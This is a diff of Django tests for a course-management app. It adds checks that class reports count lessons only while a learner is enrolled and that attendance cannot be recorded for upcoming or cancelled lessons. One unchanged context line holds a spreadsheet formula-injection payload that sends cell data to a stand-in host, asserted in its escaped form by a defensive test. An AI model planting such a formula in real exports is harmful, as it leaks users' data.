@@ -11,7 +11,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from lyceum.learning import services
+from lyceum.learning import reports, services
 from lyceum.learning.models import Enrolment
 from lyceum.orgs.services import membership_add
 
@@ -164,3 +164,51 @@ def test_a_name_that_looks_like_a_formula_is_plain_text_in_the_csv(client, atten
     client.force_login(attended.acme_admin)
     rows = _csv(client.get(reverse("learning:client_report", args=[attended.acme.slug, "csv"])))
     assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_lessons_count_for_a_learner_only_while_they_are_in_the_class(client, attended, make_user):
+    from datetime import timedelta
+
+    from django.utils import timezone
+
+    newcomer = make_user(name="New Comer")
+    services.enrol(actor=None, klass=attended.klass, user=newcomer, source=Enrolment.Source.STAFF)
+    later = services.lesson_schedule(
+        actor=attended.instructor,
+        klass=attended.klass,
+        starts_at=timezone.now() + timedelta(seconds=1),
+        duration=60,
+        topic="Joined for this one",
+    )[0]
+    Lesson = type(later)
+    Lesson.objects.filter(pk=later.pk).update(starts_at=timezone.now() + timedelta(minutes=1))
+    report = reports.class_report(attended.klass, now=timezone.now() + timedelta(hours=2))
+    lines = {line.label: line for line in report.lines}
+    assert lines["New Comer"].lessons == 1  # not the two held before they joined
+    assert lines["Léa Learner"].lessons == 3
+    # Leaving ends the count: Sam leaves, a lesson is held after, Sam's count stays.
+    services.enrolment_withdraw(
+        actor=attended.instructor, enrolment=Enrolment.objects.get(user=attended.employee)
+    )
+    report = reports.class_report(attended.klass, now=timezone.now() + timedelta(hours=2))
+    lines = {line.label: line for line in report.lines}
+    assert lines["Sam Employee (left the class)"].lessons == 2
+
+
+def test_attendance_is_refused_for_lessons_to_come_or_cancelled(attended):
+    import pytest
+
+    from lyceum.learning.services import LearningError
+
+    upcoming = attended.lessons[2]
+    with pytest.raises(LearningError, match="not started"):
+        services.attendance_record(
+            actor=attended.instructor, lesson=upcoming, marks={attended.learner.pk: "present"}
+        )
+    past = attended.lessons[0]
+    past.is_cancelled = True
+    past.save()
+    with pytest.raises(LearningError, match="cancelled"):
+        services.attendance_record(
+            actor=attended.instructor, lesson=past, marks={attended.learner.pk: "present"}
+        )
